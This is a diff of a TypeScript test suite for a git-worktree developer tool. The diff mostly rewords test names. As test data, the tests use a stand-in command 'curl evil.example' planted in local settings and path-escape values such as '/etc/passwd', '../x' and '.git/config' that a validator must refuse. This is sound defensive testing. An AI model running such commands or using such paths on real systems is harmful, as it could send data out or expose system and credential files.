@@ -37,7 +37,7 @@ describe("the canonical repository", () => {
   const canonical = (path: string, branch?: string) =>
     canonicalRepository(path, { env: scratch.env, ...(branch === undefined ? {} : { branch }) });
 
-  test("one root from a folder inside, through a link, and from another worktree of it", async () => {
+  test("has one root, from a folder inside, through a link, and from another worktree", async () => {
     const { repository, base } = scratch;
     const main = { root: repository, branch: "main", commit: base };
     expect(await canonical(join(repository, "src"))).toEqual(main);
@@ -49,7 +49,7 @@ describe("the canonical repository", () => {
     expect(await canonical(path, "main")).toEqual(main);
   });
 
-  test("remote branches, tags and whole commit ids can be the base", async () => {
+  test("remote branches, tags and full commit ids can be the base", async () => {
     const { repository, base } = scratch;
     await plainly(repository, "update-ref", "refs/remotes/origin/next", base);
     await plainly(repository, "tag", "v1");
@@ -58,7 +58,7 @@ describe("the canonical repository", () => {
     }
   });
 
-  test("what cannot be a repository or a base is refused with what is wrong", async () => {
+  test("an invalid repository or base is refused with the reason", async () => {
     const { folder, repository } = scratch;
     const bare = join(folder, "bare.git");
     const empty = join(folder, "empty");
@@ -103,18 +103,18 @@ describe("the repository's settings", () => {
     expect(await read(commit)).toEqual({ setup: [], test: [["npm", "test"]], copy: ["config/.env"] });
   });
 
-  test("they come from the commit, whatever the folder says now", async () => {
+  test("they come from the commit, not from the folder", async () => {
     const commit = await commitSettings('{"test": [["npm", "test"]]}');
     write(".devflow.json", '{"test": [["curl", "evil.example"]]}');
     expect((await read(commit)).test).toEqual([["npm", "test"]]);
     expect((await read(scratch.base)).test).toEqual([]);
   });
 
-  test("every fault is listed at once", async () => {
+  test("all errors are listed at once", async () => {
     const faulty =
       '{"setup": ["npm ci"], "test": [[], ["npm", 1]], "copy": ["../x", "/etc/passwd", ".git/config", "ok"]}';
     const message = await read(await commitSettings(faulty)).catch((error: Error) => error.message);
-    for (const place of ["6 fault(s)", "setup[0]", "test[0]", "test[1][1]", "copy[0]", "copy[1]", "copy[2]"]) {
+    for (const place of ["6 error(s)", "setup[0]", "test[0]", "test[1][1]", "copy[0]", "copy[1]", "copy[2]"]) {
       expect(message).toContain(place);
     }
     await expect(read(await commitSettings("{"))).rejects.toThrow("it is not JSON");
@@ -132,7 +132,7 @@ describe("the repository's settings", () => {
     await expect(read(linked.commit)).rejects.toThrow("link or a folder");
   });
 
-  test("files under copy are brought along, private, and nothing from outside", async () => {
+  test("files under copy are copied, private, and nothing from outside", async () => {
     const { repository, folder } = scratch;
     const { path } = await make("r1");
     write(".env", "KEY=hunter2\n");
@@ -149,7 +149,7 @@ describe("the repository's settings", () => {
   });
 });
 
-describe("the witness over .git", () => {
+describe("the hash of the shared .git", () => {
   const state = (worktree?: string) =>
     gitStateHash(scratch.repository, { env: scratch.env, ...(worktree === undefined ? {} : { worktree }) });
 
@@ -165,7 +165,7 @@ describe("the witness over .git", () => {
     expect(changedGitState(before, after)).toEqual([]);
   });
 
-  test("settings, hooks, attributes and a moved .git are seen and named", async () => {
+  test("settings, hooks, attributes and a moved .git are detected and named", async () => {
     const { path } = await make("r1");
     const inGit = (...parts: string[]) => join(scratch.repository, ".git", ...parts);
     mkdirSync(inGit("info"), { recursive: true });
@@ -195,7 +195,7 @@ describe("the witness over .git", () => {
 });
 
 describe("orphans and sizes", () => {
-  test("worktrees that no run knows and runs whose worktree is gone are listed, and nothing is removed", async () => {
+  test("worktrees without a run and runs without a worktree are listed, and nothing is removed", async () => {
     const known = await make("r1");
     const forgotten = await make("r2");
     const gone = await make("r3");
@@ -229,7 +229,7 @@ describe("orphans and sizes", () => {
     ]);
   });
 
-  test("no workspace yet means no orphans, and makes none", async () => {
+  test("without a workspace there are no orphans, and none is created", async () => {
     const orphans = await listOrphans({ workspaceRoot: scratch.workspace, knownRuns: [] });
     expect(orphans).toEqual({ unknown: [], gone: [] });
     expect(existsSync(scratch.workspace)).toBe(false);
